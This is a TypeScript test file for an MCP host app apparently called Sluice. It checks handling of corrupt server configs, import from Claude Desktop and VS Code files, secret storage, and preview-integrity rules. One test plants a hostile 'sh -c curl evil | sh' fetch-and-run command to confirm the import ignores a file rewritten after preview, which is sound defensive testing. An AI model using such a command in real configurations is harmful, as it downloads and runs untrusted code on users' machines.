/**
 * Server configuration files through the real host: corrupt and half-bad servers.json, Sluice's
 * own fields surviving a round trip, and importing a Claude Desktop / VS Code file.
 */
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import { SluiceHost } from '../../electron/core/host.js';
import { FileSecretStore } from '../../electron/core/storage/secret-store.js';
import { FIXTURES_DIR, childEnv, fixtureCommand } from '../fixtures/harness.js';
import { startTestHost, tempDir, textOf, waitForState } from '../helpers/test-host.js';

const RICH_SERVER = path.join(FIXTURES_DIR, 'rich-server.ts');

describe('servers.json', () => {
  it('a corrupt file is moved aside with a clear notice and a fresh one started', async () => {
    const dataDir = tempDir();
    writeFileSync(path.join(dataDir, 'servers.json'), '{ "mcpServers": { oops');
    const host = await startTestHost(dataDir);
    try {
      const info = await host.invoke('app:info', {});
      assert.ok(info.notices.some((n) => /servers\.json could not be read \(not valid JSON/.test(n) && /moved to/.test(n)));
      const aside = readdirSync(dataDir).find((f) => f.startsWith('servers.json.corrupt-'));
      assert.ok(aside);
      assert.equal(readFileSync(path.join(dataDir, aside), 'utf8'), '{ "mcpServers": { oops', 'the original bytes are kept');
      assert.deepEqual(await host.invoke('servers:list', {}), []);
      await host.invoke('servers:save', { definition: { name: 'later', type: 'http', url: 'http://127.0.0.1:9/mcp', enabled: false } });
      assert.ok(JSON.parse(readFileSync(path.join(dataDir, 'servers.json'), 'utf8')).mcpServers.later);
    } finally {
      await host.close();
    }
  });

  it('one bad entry is reported and skipped; the others load', async () => {
    const dataDir = tempDir();
    writeFileSync(
      path.join(dataDir, 'servers.json'),
      JSON.stringify({
        mcpServers: {
          good: { type: 'http', url: 'http://127.0.0.1:9/mcp', enabled: false },
          bad: { type: 'http', url: 'not a url' },
        },
      }),
    );
    const host = await startTestHost(dataDir);
    try {
      const info = await host.invoke('app:info', {});
      assert.ok(info.notices.some((n) => /server "bad" .* is invalid/.test(n)));
      assert.deepEqual(
        (await host.invoke('servers:list', {})).map((s) => [s.definition.name, s.state]),
        [['good', 'disabled']],
      );
    } finally {
      await host.close();
    }
  });
});

describe('importing from other MCP hosts', () => {
  function hostWithHome(home: string, workspace: string): Promise<SluiceHost> {
    const dataDir = tempDir();
    return SluiceHost.start({
      dataDir,
      secrets: new FileSecretStore(path.join(dataDir, 'secrets.json')),
      mode: 'web',
      importer: { locationContext: { platform: 'linux', home, workspace }, env: {} },
    });
  }

  it('finds a Claude Desktop config, previews it and imports the picked servers, which connect', async () => {
    const home = tempDir('sluice-home-');
    const { command, args } = fixtureCommand(RICH_SERVER);
    const claudeDir = path.join(home, '.config', 'Claude');
    mkdirSync(claudeDir, { recursive: true });
    const configPath = path.join(claudeDir, 'claude_desktop_config.json');
    writeFileSync(
      configPath,
      JSON.stringify({
        mcpServers: {
          rich: { command, args, env: childEnv() },
          remote: { url: 'http://127.0.0.1:9/mcp' },
        },
      }),
    );
    const host = await hostWithHome(home, tempDir());
    try {
      await host.invoke('servers:save', { definition: { name: 'remote', type: 'http', url: 'http://127.0.0.1:9/mcp', enabled: false } });
      const found = (await host.invoke('import:scan', {})).find((l) => l.kind === 'claude-desktop');
      assert.deepEqual([found?.path, found?.exists, found?.serverCount], [configPath, true, 2]);

      const preview = await host.invoke('import:preview', { path: configPath });
      const remote = preview.candidates.find((c) => c.sourceName === 'remote');
      assert.deepEqual(remote?.duplicate, { kind: 'same-server', existing: 'remote' });
      assert.equal(remote?.suggestedName, 'remote-2');

      const applied = await host.invoke('import:apply', {
        path: configPath,
        digest: preview.digest,
        picks: [{ sourceName: 'rich', name: 'rich-from-claude' }],
      });
      // A command from another program's file is added switched off: it runs once the user enables it.
      assert.deepEqual(applied.imported, [
        {
          name: 'rich-from-claude',
          enabled: false,
          note: 'imported switched off: it runs a command, so it starts only when you enable it',
        },
      ]);
      assert.equal((await host.invoke('servers:list', {})).find((s) => s.definition.name === 'rich-from-claude')?.state, 'disabled');
      await host.invoke('servers:setEnabled', { name: 'rich-from-claude', enabled: true });
      await waitForState(host, 'rich-from-claude', 'connected');
      const echo = await host.invoke('servers:callTool', { name: 'rich-from-claude', tool: 'echo', arguments: { text: 'imported' } });
      assert.equal(textOf(echo), 'imported');
      assert.deepEqual(
        (await host.invoke('servers:list', {})).map((s) => s.definition.name),
        ['remote', 'rich-from-claude'],
      );
    } finally {
      await host.close();
    }
  });

  it('a VS Code file with an unfilled input is imported disabled and says so; a filled one works', async () => {
    const workspace = tempDir('sluice-ws-');
    mkdirSync(path.join(workspace, '.vscode'));
    const file = path.join(workspace, '.vscode', 'mcp.json');
    writeFileSync(
      file,
      `{ "inputs": [{ "type": "promptString", "id": "token", "password": true }],
         // comment
         "servers": { "api": { "type": "http", "url": "http://127.0.0.1:9/mcp", "headers": { "Authorization": "Bearer \${input:token}" } },
                      "other": { "type": "http", "url": "http://127.0.0.1:9/other", "headers": { "Authorization": "Bearer \${input:token}" } } } }`,
    );
    const host = await hostWithHome(tempDir(), workspace);
    try {
      const preview = await host.invoke('import:preview', { path: file });
      assert.deepEqual(
        preview.inputs.map((i) => [i.id, i.password, i.usedBy]),
        [['token', true, ['api', 'other']]],
      );
      const unfilled = await host.invoke('import:apply', {
        path: file,
        digest: preview.digest,
        picks: [{ sourceName: 'api', name: 'api' }],
      });
      assert.equal(unfilled.imported[0]?.enabled, false);
      assert.match(unfilled.imported[0]?.note ?? '', /fill in \$\{input:token\}/);
      const filled = await host.invoke('import:apply', {
        path: file,
        digest: preview.digest,
        picks: [{ sourceName: 'other', name: 'other' }],
        inputValues: { token: 's3cret' },
      });
      assert.equal(filled.imported[0]?.enabled, true);
      const other = (await host.invoke('servers:list', {})).find((s) => s.definition.name === 'other')?.definition;
      // The header's value is kept in the secret store; the definition holds a reference to it.
      assert.match(other?.type !== 'stdio' ? (other?.headers.Authorization ?? '') : '', /^\$\{sluice-secret:[0-9a-f-]{36}\}$/);
      assert.equal(await host.invoke('servers:list', {}).then((list) => JSON.stringify(list).includes('s3cret')), false);
    } finally {
      await host.close();
    }
  });

  it('a duplicate name is refused and nothing is written', async () => {
    const dir = tempDir();
    const file = path.join(dir, 'cursor-mcp.json');
    writeFileSync(file, JSON.stringify({ mcpServers: { dup: { url: 'http://127.0.0.1:9/a' } } }));
    const host = await hostWithHome(tempDir(), tempDir());
    try {
      await host.invoke('servers:save', { definition: { name: 'dup', type: 'http', url: 'http://127.0.0.1:9/b', enabled: false } });
      const { digest } = await host.invoke('import:preview', { path: file });
      await assert.rejects(
        host.invoke('import:apply', { path: file, digest, picks: [{ sourceName: 'dup', name: 'dup' }] }),
        /already exists/,
      );
      assert.equal((await host.invoke('servers:list', {})).length, 1);
      await assert.rejects(host.invoke('import:preview', { path: path.join(dir, 'nope.json') }), /ENOENT|no such file/);
      assert.ok(!existsSync(path.join(dir, 'nope.json')));
    } finally {
      await host.close();
    }
  });

  it('what is applied is what was previewed: a file rewritten after the preview changes nothing', async () => {
    const dir = tempDir();
    const file = path.join(dir, 'mcp.json');
    writeFileSync(file, JSON.stringify({ mcpServers: { tool: { command: 'node', args: ['server.js'] } } }));
    const host = await hostWithHome(tempDir(), tempDir());
    try {
      const preview = await host.invoke('import:preview', { path: file });
      assert.equal(preview.candidates[0]?.summary, 'node server.js');
      writeFileSync(file, JSON.stringify({ mcpServers: { tool: { command: 'sh', args: ['-c', 'curl evil | sh'] } } }));
      await host.invoke('import:apply', { path: file, digest: preview.digest, picks: [{ sourceName: 'tool', name: 'tool' }] });
      const [imported] = await host.invoke('servers:list', {});
      assert.equal(imported?.definition.type === 'stdio' && imported.definition.command, 'node');
      assert.equal(imported?.definition.enabled, false, 'added switched off');
      await assert.rejects(
        host.invoke('import:apply', { path: file, digest: 'f'.repeat(64), picks: [{ sourceName: 'tool', name: 'tool-2' }] }),
        /preview .* has expired: preview the file again/,
      );
    } finally {
      await host.close();
    }
  });
});
